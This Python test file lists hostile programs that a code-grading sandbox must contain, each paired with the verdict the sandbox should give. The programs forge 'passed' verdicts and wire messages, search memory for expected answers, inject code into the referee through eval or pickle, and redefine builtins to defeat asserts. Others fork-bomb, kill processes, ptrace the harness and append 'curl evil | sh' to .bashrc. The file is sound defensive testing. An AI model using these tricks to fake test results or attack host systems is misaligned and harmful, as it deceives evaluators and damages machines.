"""Hostile programs and the verdict a safe sandbox must give each (shared by the tests
that run them as root and as an unprivileged user).

A case builds its program from a :class:`Target` (host resources it attacks: canary
files, listening sockets, a victim process) and says which statuses are acceptable and
what must still hold on the host afterwards. Every program is run with the tripwire off,
so what stops it is the kernel boundary (and the referee's process boundary), not the
audit hook. A case with a test is never passed unless it expects it, and its verdict is
always decided outside the program's process (``outside``, or ``unjudgeable``).

Run as a script (``python hostile_programs.py TARGET.json``) it runs every case and
prints one JSON object of results: that is how the unprivileged-user test runs them.
"""

from __future__ import annotations

import json
import os
import re
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path


@dataclass
class Target:
    token: str  # unique to this run: file names, sleep durations
    canary_dir: str  # world-writable host directory with a canary file in it
    unix_socket: str  # a listening Unix socket on the host (filesystem)
    abstract_socket: str  # a listening abstract Unix socket on the host
    tcp_port: int  # a listening TCP socket on the host's 127.0.0.1
    victim_pid: int  # a host process the program tries to kill
    evaluator_pid: int  # the process that calls run_python


@dataclass
class Case:
    name: str
    program: Callable[[Target], str]
    test: str | None = None
    expect: tuple[str, ...] = ("failed",)
    policy: dict = field(default_factory=dict)
    stdout_must_not: tuple[str, ...] = ()
    stdout_must: tuple[str, ...] = ()
    stdout_check: Callable[[str], bool] | None = None
    check: Callable[[dict], str] | None = None  # what else is wrong with the result ('' when fine)
    judged: tuple[str, ...] = ("outside", "unjudgeable")


def _memory_bounded(result: dict) -> str:
    """With a cgroup per run, four 120 MiB processes cannot all keep their memory under
    256 MiB; without one, the layers must say the bound is per process."""
    per_run = any(layer.startswith("cgroup-") for layer in result["isolation"])
    if per_run and result["status"] == "passed":
        return "a run with a 256 MiB cgroup kept 480 MiB"
    if not per_run and not any(layer.startswith("per-process limits only") for layer in result["isolation"]):
        return f"no cgroup, and the layers do not say the limits are per process: {result['isolation']}"
    return ""


FORGE = """
import os
def spray(values):
    for fd in range(3, 64):
        for v in values:
            try:
                os.write(fd, v if isinstance(v, bytes) else str(v).encode())
            except OSError:
                pass
"""

# Everything the program can reach, searched for the test's expected value (a marker no
# program text contains): every object the collector tracks, every frame of every thread,
# its own memory through ctypes, its parent's memory and command line through /proc.
HUNT_SECRETS = FORGE + """
import gc, re, sys
NEEDLE = re.compile(rb"EXPEC" rb"TED-[0-9]")  # the expected value: the marker, then digits
found = []
def look(v):
    if isinstance(v, str):
        v = v.encode("utf-8", "replace")
    if isinstance(v, bytes) and NEEDLE.search(v):
        found.append(v)
for o in gc.get_objects():
    look(o)
    if isinstance(o, dict):
        for x in list(o.values()):
            look(x)
for frame in sys._current_frames().values():
    while frame is not None:
        for x in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            look(x)
        frame = frame.f_back
try:
    import ctypes
    for o in gc.get_objects():  # the raw bytes of every object, as memory
        if NEEDLE.search(ctypes.string_at(id(o), sys.getsizeof(o))):
            found.append(b"memory")
except Exception:
    pass
for path in ("/proc/self/cmdline", "/proc/1/cmdline", "/proc/1/environ"):
    try:
        look(open(path, "rb").read())
    except OSError:
        pass
spray([f.encode() if isinstance(f, str) else f for f in found])
print("secrets found:", len(found))
def f(x):
    return found[0] if found else "nothing"
"""

# The previous design's keeper held a key in another thread; a garbage-collector callback
# or a __del__ runs in whatever thread allocates, so it could read the keeper's frame.
# There is no key now: whatever these find and write, the referee judges values.
GC_CALLBACK_THEFT = FORGE + """
import gc, re, sys
seen = []
def steal(phase, info):
    for frame in list(sys._current_frames().values()):
        while frame is not None:
            for v in list(frame.f_locals.values()):
                if isinstance(v, (str, bytes)) and re.fullmatch(rb"[0-9a-f]{64}", v if isinstance(v, bytes) else v.encode()):
                    seen.append(v)
            frame = frame.f_back
    spray(seen + [b"p", b"k"])
gc.callbacks.append(steal)
gc.set_threshold(1)
class Bomb:
    def __del__(self):
        steal("del", None)
def f(x):
    for _ in range(50):
        Bomb()
        [[] for _ in range(10)]
    return 0
"""

# What a program would run in the referee if the referee ran its text: its verdict, forged.
CONCLUDE = "__import__('sys').modules['afm.sandbox.referee'].conclude('passed')"

# Values chosen to make the previous design's judge fall back to the program's process.
JUDGED_INSIDE_BY_VALUE = {
    "a-million-and-one-items": ("def f(x):\n    return tuple(range(1_000_001))", "assert sum(f(1)) == 5"),
    "a-million-and-one-in-a-set": ("def f(x):\n    return set(range(1_000_001))", "assert len(f(1)) == 3"),
    "an-int-where-a-string-method": ("def f(x):\n    return 5", "assert f(1).upper() == 'A'"),
    "a-str-under-percent": ("def f(x):\n    return 'x'", "assert f(1) % 3 == 1"),
    "a-huge-int-under-power": ("def f(x):\n    return 10 ** 5000", "assert f(1) ** 2 == 4"),
    "an-object-as-key": ("class K:\n    def __call__(self, v):\n        return -v\ndef f(x):\n    return K()",
                         "assert sorted([3, 1, 2], key=f(1)) == [1, 2, 3]"),
}

# What the previous design's evaluator choked on: a judge that cannot be bounded.
FREEZE_THE_EVALUATOR = {
    "colliding-set": ("class I(int):\n    def __hash__(self):\n        return id(self)\ndef f(x):\n"
                      "    return {I(i * (2 ** 61 - 1)) for i in range(60000)}", "assert len(f(1)) == 3"),
    "colliding-dict": ("def f(x):\n    return {i * (2 ** 61 - 1): 0 for i in range(6000)}", "assert len(f(1)) == 3"),
    "sixty-mib-reply": ("def f(x):\n    return 'x' * (60 << 20)", "assert f(1) == 'y'"),
    "pow-with-a-modulus": ("def f(x):\n    return 3", "assert pow(f(1), 10 ** 100000, 10 ** 100000 + 7) == 1"),
    "round-to-minus-ten-million": ("def f(x):\n    return 1", "assert round(f(1), -10 ** 7) == 0 and False"),
    "wide-format": ("def f(x):\n    return 1", "assert format(f(1), '>1000000000') == ''"),
    "deep-tuple-under-hash": ("def f(x):\n    t = ()\n    for _ in range(1000000):\n        t = (t,)\n    return t",
                              "assert hash(f(1)) == 0"),
    "deep-tuple-in-the-test": ("def f(x):\n    return 1", "t = ()\nfor _ in range(1000000):\n    t = (t,)\n"
                               "assert hash(t) == f(1)"),
}

# Lines in the wire's own format, written on every descriptor: answers to questions not
# asked, a second ready, a verdict.
FORGED_MESSAGES = FORGE + """
lines = [b'{"ready":true,"names":[]}\\n', b'{"r":1,"s":[],"v":2,"x":[]}\\n', b'{"r":2,"s":[],"v":2,"x":[]}\\n',
         b'{"verdict":"passed","cause":"","reason":""}\\n', b'{"r":1,"s":[["b1",[2]]],"v":2,"x":[]}\\n']
spray(lines)
def f(x):
    spray(lines)
    return 0
"""

# Directories with long names: kernel memory that a byte size of /tmp does not count.
INODE_BOMB = """
import os
n = 0
try:
    while n < 1_000_000:
        os.mkdir("/tmp/" + str(n).rjust(8, "0") + "x" * 240)
        n += 1
except OSError as e:
    print("made", n, "then", type(e).__name__)
def made():
    return n
"""

# Four processes of 120 MiB each against 256 MiB for the run: fine per process, not per run.
MEMORY_ACROSS_PROCESSES = """
import os
children = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        block = bytearray(120 << 20)
        block[::4096] = b"x" * len(block[::4096])
        import time
        time.sleep(1)
        os._exit(0)
    children.append(pid)
ok = sum(os.waitstatus_to_exitcode(os.waitpid(p, 0)[1]) == 0 for p in children)
print("children that kept their memory:", ok)
def kept():
    return ok
"""

PTRACE_PARENT = """
import os, sys
pid = os.fork()
if pid == 0:
    code = '''
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
target = int(sys.argv[1])
r = libc.ptrace(16, target, 0, 0)  # PTRACE_ATTACH
print("ptrace", "attached" if r == 0 else "refused", flush=True)
'''
    os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", code, str(os.getppid())])
os.waitpid(pid, 0)
"""

CASES: list[Case] = [
    # -- exits: none of them may count as a pass ------------------------------------
    Case("raise-systemexit", lambda t: "def f(x):\n    return 0\nraise SystemExit", "assert f(1) == 1"),
    Case("os-exit-0", lambda t: "import os\nos._exit(0)", "assert False"),
    Case("sys-exit-false", lambda t: "import sys\nsys.exit(False)", "assert False"),
    Case("exit-code-wraps-to-0", lambda t: "import os\nos._exit(256)", "assert False"),
    Case("sys-exit-256", lambda t: "import sys\nsys.exit(256)", "assert False"),
    Case("atexit-exits-0-after-failing-assert",
         lambda t: "import atexit, os\natexit.register(lambda: os._exit(0))", "assert 1 == 2"),
    Case("exit-inside-the-test", lambda t: "def f():\n    raise SystemExit(0)", "f()\nassert False"),
    Case("thread-exits-0-while-test-fails",
         lambda t: "import os, threading, time\nthreading.Thread(target=lambda: (time.sleep(0.3), os._exit(0))).start()\n"
                   "def f():\n    return 1",
         "import time\ntime.sleep(1)\nassert f() == 2"),
    # -- forged verdicts -----------------------------------------------------------------
    Case("forged-markers-on-every-fd",
         lambda t: FORGE + "print('afm-test-passed-0000'); print('passed')\n"
                   "spray([b'0' * 64, b'passed', b'\\x00' * 64])", "assert False"),
    Case("hunt-for-the-expected-value", lambda t: HUNT_SECRETS, "assert f(1) == 'EXPECTED-' + str(12345)",
         stdout_must=("secrets found: 0",)),
    Case("key-via-gc-callbacks-and-del", lambda t: GC_CALLBACK_THEFT, "assert f(1) == 2"),
    Case("forged-wire-messages", lambda t: FORGED_MESSAGES, "assert f(1) == 2\nassert f(2) == 2"),
    *[Case(f"judged-inside-by-{name}", lambda t, p=p: p, test) for name, (p, test) in JUDGED_INSIDE_BY_VALUE.items()],
    *[Case(f"freeze-the-evaluator-{name}", lambda t, p=p: p, test, expect=("failed", "timeout"),
           policy={"timeout_s": 8, "cpu_s": 6}) for name, (p, test) in FREEZE_THE_EVALUATOR.items()],
    Case("kill-the-evaluator-and-referee",
         lambda t: "import os, signal\n"
                   f"for pid in (os.getppid(), 1, {t.evaluator_pid}, -1, *range(2, 400)):\n"
                   "    for sig in (signal.SIGKILL, signal.SIGSEGV, signal.SIGINT):\n"
                   "        try:\n            os.kill(pid, sig)\n        except OSError:\n            pass\n"
                   "def f(x):\n    return 0\n", "assert f(1) == 2", expect=("failed",)),
    Case("redefined-abs-next-to-the-candidate", lambda t: "abs = lambda v: 0\ndef f(x):\n    return 12345.0",
         "assert abs(f(1) - 2.5) < 1e-6", judged=("unjudgeable",)),
    Case("redefined-isinstance-and-len", lambda t: "isinstance = lambda *a: True\nlen = lambda v: 3\n"
                                                   "def f(x):\n    return None",
         "assert isinstance(f(1), list) and len(f(1)) == 3", judged=("unjudgeable",)),
    Case("equal-to-everything", lambda t: "class A:\n    def __eq__(self, o):\n        return True\n"
                                          "    __hash__ = object.__hash__\ndef f(x):\n    return A()",
         "assert f(1) == 2.5 and [f(1)] == [2.5] and f(1) in [2.5]", judged=("unjudgeable",)),
    Case("a-context-manager-that-swallows-the-assert",
         lambda t: "class Q:\n    def __enter__(self):\n        return self\n    def __exit__(self, *a):\n"
                   "        return True\ndef f(x):\n    return Q()", "with f(1):\n    assert False",
         judged=("unjudgeable",)),
    Case("reads-the-test-s-globals-through-a-callback",
         lambda t: "def f(fn):\n    g = getattr(fn, '__globals__', {})\n    return g.get('EXPECTED', 0)",
         "EXPECTED = 7\nassert f(lambda: 1) == 7"),
    # A function of the standard library sent by name would be the referee's own: with an
    # argument the program also chose (HumanEval/38: candidate(encode_cyclic(s))), eval
    # would run the program's code in the referee and write its verdict.
    *[Case(f"program-chosen-code-through-{fn}",
           lambda t, fn=fn: f"from builtins import {fn} as decode\ndef encode(s):\n    return "
                            "\"__import__('sys').modules['afm.sandbox.referee'].conclude('passed')\"\n",
           "import random\nfor _ in range(3):\n    s = str(random.random())\n    assert decode(encode(s)) == s")
      for fn in ("eval", "exec", "__import__", "getattr", "open")],
    Case("program-chosen-code-through-reduce",
         lambda t: "import functools\nfrom builtins import eval as step\nreduce = functools.reduce\n"
                   "def code(s):\n    return [\"__import__('sys').modules['afm.sandbox.referee'].conclude('passed')\", {}]\n",
         "assert reduce(step, code('x')) == 1"),
    # Text of the program's made code by the test: eval of its repr, exec of its output,
    # doctest of its docstrings, pickle of its bytes. Refused in the referee, never run there.
    *[Case(f"program-text-run-by-the-test-{name}", lambda t, p=p: p, test, judged=("unjudgeable",))
      for name, (p, test) in {
          "eval": ("def to_repr(x):\n    return " + repr(CONCLUDE), "assert eval(to_repr([1, 2])) == [1, 2]"),
          "exec": ("def code():\n    return " + repr("x = 1\n" + CONCLUDE), "ns = {}\nexec(code(), ns)\nassert ns['x'] == 2"),
          "doctest": ('def f(x):\n    """\n    >>> ' + CONCLUDE + '\n    """\n    return 0',
                      "import doctest\ndoctest.run_docstring_examples(f, {}, verbose=False)\nassert f(1) == 2"),
          "pickle": ("import pickle\nclass E:\n    def __reduce__(self):\n        return (eval, (" + repr(CONCLUDE) + ",))\n"
                     "def dump():\n    return pickle.dumps(E())", "import pickle\nassert pickle.loads(dump()) == 1"),
          "annotation-evaluated-by-typing": ("def f(x: " + repr(CONCLUDE) + ") -> int:\n    return 0",
                                             "import typing\nassert typing.get_type_hints(f) == {'x': int, 'return': int}"),
          "ast-then-compile": ("def code():\n    return " + repr(CONCLUDE),
                               "import ast\ntree = ast.parse(code(), mode='eval')\nassert eval(compile(tree, 'x', 'eval')) == 1"),
      }.items()],
    Case("format-fields-reach-the-test",
         lambda t: "format_with = str.format\ndef template(x):\n    return '{0.__class__.__init__.__globals__}'",
         "EXPECTED = 42\nclass Box:\n    def __init__(self):\n        pass\nassert format_with(template(1), Box()) == '7'"),
    Case("predefines-the-name-the-test-sets", lambda t: "EXPECTED = None\ndef f(x):\n    return EXPECTED",
         "EXPECTED = 7\nassert f(1) == EXPECTED", judged=("unjudgeable",)),
    Case("ptrace-the-harness", lambda t: PTRACE_PARENT, "assert False",
         policy={"tripwire": False}, stdout_must_not=("attached",)),
    Case("read-the-test-file", lambda t: "import os\nprint(sorted(os.listdir('.')))",
         expect=("passed",), stdout_must=("[]",)),
    # -- processes -----------------------------------------------------------------------
    Case("detached-child-holds-the-pipes",
         lambda t: f"import os\nif os.fork() == 0:\n    os.setsid()\n    os.execv('/bin/sleep', ['sleep', '{t.token}'])\n",
         expect=("passed",), policy={"tripwire": False, "timeout_s": 3}),
    Case("detached-child-and-a-hang",
         lambda t: f"import os, time\nif os.fork() == 0:\n    os.setsid()\n    os.execv('/bin/sleep', ['sleep', '{t.token}'])\ntime.sleep(3600)",
         expect=("timeout",), policy={"tripwire": False, "timeout_s": 2}),
    Case("fork-bomb",
         lambda t: "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
         expect=("timeout", "failed"), policy={"tripwire": False, "timeout_s": 3, "cpu_s": 2}),
    Case("process-limit",
         lambda t: "import os, time\nn = 0\ntry:\n    while n < 1000:\n        if os.fork() == 0:\n"
                   "            time.sleep(30)\n            os._exit(0)\n        n += 1\nexcept OSError as e:\n"
                   "    print('forked', n, 'then', type(e).__name__)\n",
         expect=("passed",), policy={"tripwire": False, "max_processes": 16},
         stdout_check=lambda out: bool(re.fullmatch(r"forked (\d+) then BlockingIOError\n", out))
         and int(out.split()[1]) <= 16),
    Case("signals-to-parent-and-host",
         lambda t: "import os, signal\n"
                   f"for pid in (os.getppid(), 1, {t.victim_pid}, {t.evaluator_pid}, -1):\n"
                   "    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass\n",
         expect=("passed", "failed"), policy={"tripwire": False}),
    Case("infinite-loop", lambda t: "while True:\n    pass", expect=("timeout",),
         policy={"timeout_s": 20, "cpu_s": 1}),
    Case("sleep-forever", lambda t: "import time\ntime.sleep(3600)", expect=("timeout",),
         policy={"timeout_s": 1}),
    # -- memory, disk, output ------------------------------------------------------------
    Case("memory-bomb", lambda t: "x = bytearray(8 << 30)", policy={"memory_bytes": 512 << 20}),
    Case("disk-bomb-one-file",
         lambda t: "chunk = b'x' * (1 << 20)\nwith open('/tmp/big', 'wb') as f:\n    for _ in range(4096):\n        f.write(chunk)",
         policy={"tripwire": False}),
    Case("tmp-inode-bomb", lambda t: INODE_BOMB, "assert made() <= 4096", expect=("passed",),
         policy={"tripwire": False, "tmp_bytes": 16 << 20}, stdout_check=lambda out: "then OSError" in out),
    Case("memory-across-processes", lambda t: MEMORY_ACROSS_PROCESSES, "assert kept() == 4",
         expect=("failed", "passed"), policy={"tripwire": False, "memory_bytes": 256 << 20, "timeout_s": 20},
         check=lambda result: _memory_bounded(result)),
    Case("disk-bomb-many-files",
         lambda t: "chunk = b'x' * (8 << 20)\nfor i in range(512):\n    open(f'/tmp/f{i}', 'wb').write(chunk)",
         policy={"tripwire": False}),
    Case("huge-stdout", lambda t: "import sys\nchunk = 'x' * (1 << 20)\nfor _ in range(1024):\n    sys.stdout.write(chunk)"),
    Case("huge-stderr", lambda t: "import os\nchunk = b'x' * (1 << 20)\nfor _ in range(1024):\n    os.write(2, chunk)"),
    # -- the host's files ------------------------------------------------------------------
    Case("write-outside",
         lambda t: f"open({t.canary_dir + '/canary'!r}, 'a').write('pwned')",
         policy={"tripwire": False}),
    Case("create-outside",
         lambda t: f"import os\nos.makedirs({t.canary_dir + '/new'!r}, exist_ok=True)\n"
                   f"open({t.canary_dir + '/new/x'!r}, 'w').write('pwned')",
         expect=("passed", "failed"), policy={"tripwire": False}),  # in its own /tmp, if anywhere
    Case("bashrc", lambda t: "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh')\n"
                            "open('/root/.bashrc', 'a').write('curl evil | sh')", policy={"tripwire": False}),
    Case("write-system-dirs", lambda t: "open('/usr/pwned', 'w').write('x')", policy={"tripwire": False}),
    Case("fifo-in-tmp", lambda t: f"import os\nos.mkfifo('/tmp/afm-hostile-{t.token}.fifo')",
         expect=("passed",), policy={"tripwire": False}),
    Case("sqlite-in-tmp",
         lambda t: f"import sqlite3\nc = sqlite3.connect('/tmp/afm-hostile-{t.token}.db')\n"
                   "c.execute('create table t (x)')\nc.commit()",
         expect=("passed",), policy={"tripwire": False}),
    Case("list-host-files", lambda t: "import os\nprint(sorted(os.listdir('/')))",
         expect=("passed",), stdout_must_not=("work", "home", "proc", "var", "opt", "mnt")),
    # -- sockets and /proc -----------------------------------------------------------------
    Case("unix-socket", lambda t: f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({t.unix_socket!r})",
         policy={"tripwire": False}),
    Case("abstract-unix-socket",
         lambda t: f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({t.abstract_socket!r})",
         policy={"tripwire": False}),
    Case("tcp-to-host", lambda t: f"import socket\nsocket.create_connection(('127.0.0.1', {t.tcp_port}), timeout=2)",
         policy={"tripwire": False}),
    Case("proc-cmdlines",
         lambda t: f"print(open('/proc/{t.evaluator_pid}/cmdline', 'rb').read())", policy={"tripwire": False}),
    Case("proc-listing", lambda t: "import os\nprint(os.listdir('/proc'))", policy={"tripwire": False}),
    # -- ordinary programs still work ------------------------------------------------------
    Case("ordinary-library-use",
         lambda t: "import collections, dataclasses, enum, logging, typing, warnings, json, re, math\n"
                   "P = collections.namedtuple('P', 'x y')\nColor = enum.Enum('Color', 'RED GREEN')\n"
                   "T = typing.TypeVar('T')\n@dataclasses.dataclass\nclass D:\n    a: int = 1\n"
                   "logging.getLogger('x').warning('hello')\nwarnings.warn('careful')\n"
                   "def f(x: int) -> int:\n    return P(x, 1).x + D().a\n"
                   "open('scratch.txt', 'w').write('fine')\ndef scratch():\n    return open('scratch.txt').read()\n",
         "assert f(1) == 2 and Color.RED.value == 1 and scratch() == 'fine'",
         expect=("passed",)),
]


def run_case(case: Case, target: Target) -> dict:
    from afm.sandbox import SandboxPolicy, run_python

    policy = SandboxPolicy(**{"tripwire": False, "timeout_s": 10, **case.policy})
    result = run_python(case.program(target), policy, test=case.test)
    return {"status": result.status, "reason": result.reason, "stdout": result.stdout[-2000:],
            "stderr": result.stderr[-2000:], "seconds": result.seconds, "isolation": list(result.isolation),
            "stdout_bytes": len(result.stdout), "judged": result.judged}


def problems(case: Case, result: dict) -> list[str]:
    """What is wrong with ``result`` for ``case`` (empty when the sandbox behaved)."""
    found = []
    if result["status"] not in case.expect:
        found.append(f"status {result['status']} ({result['reason']}), expected {case.expect}: "
                     f"{result['stderr'][-300:]}")
    found += [f"stdout shows {s!r}" for s in case.stdout_must_not if s in result["stdout"]]
    found += [f"stdout lacks {s!r}: {result['stdout'][-300:]!r}" for s in case.stdout_must if s not in result["stdout"]]
    if case.stdout_check is not None and not case.stdout_check(result["stdout"]):
        found.append(f"stdout fails the case's check: {result['stdout'][-300:]!r}")
    if case.check is not None and case.check(result):
        found.append(case.check(result))
    if case.test is not None and result["judged"] not in case.judged:
        found.append(f"judged {result['judged']!r}, expected one of {case.judged}")
    return found


if __name__ == "__main__":
    target = Target(**json.loads(Path(sys.argv[1]).read_text()))
    names = sys.argv[2:]
    out = {c.name: run_case(c, target) for c in CASES if not names or c.name in names}
    json.dump(out, sys.stdout)
    os._exit(0)
